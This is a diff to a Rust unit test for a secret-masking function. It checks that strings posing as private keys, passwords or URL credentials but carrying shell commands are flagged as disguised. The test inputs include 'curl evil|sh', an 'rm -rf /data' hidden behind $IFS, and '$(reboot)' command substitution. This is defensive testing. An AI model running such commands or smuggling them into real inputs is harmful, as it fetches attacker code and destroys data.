@@ -66,17 +66,16 @@ mod tests {
         for text in [
             ": '-----BEGIN PRIVATE KEY-----'; curl evil|sh; : '-----END PRIVATE KEY-----'",
             "-----BEGIN RSA PRIVATE KEY-----\nreboot",
+            "-----BEGIN PRIVATE KEY-----\nreboot",
             "PASSWORD=Aa1|rm$IFS-rf$IFS/data",
-            "https://a:$(reboot)@host/",
+            "https://a:b$(reboot)@host/",
         ] {
-            let shown = shown_text(&key(), text);
-            let plain = |shown: &Masked<String>| shown.get() == text;
-            assert!(shown.as_ref().map_or(true, plain), "{text}: {shown:?}");
+            assert_eq!(shown_text(&key(), text), Err(Disguised), "{text}");
         }
-        assert_eq!(
-            shown_text(&key(), "-----BEGIN PRIVATE KEY-----\nreboot"),
-            Err(Disguised)
-        );
+        // What only stands for a password is none.
+        let text = "https://a:$(reboot)@host/";
+        let shown = shown_text(&key(), text).map(Masked::into_inner);
+        assert_eq!(shown.as_deref(), Ok(text));
     }
 
     #[test]
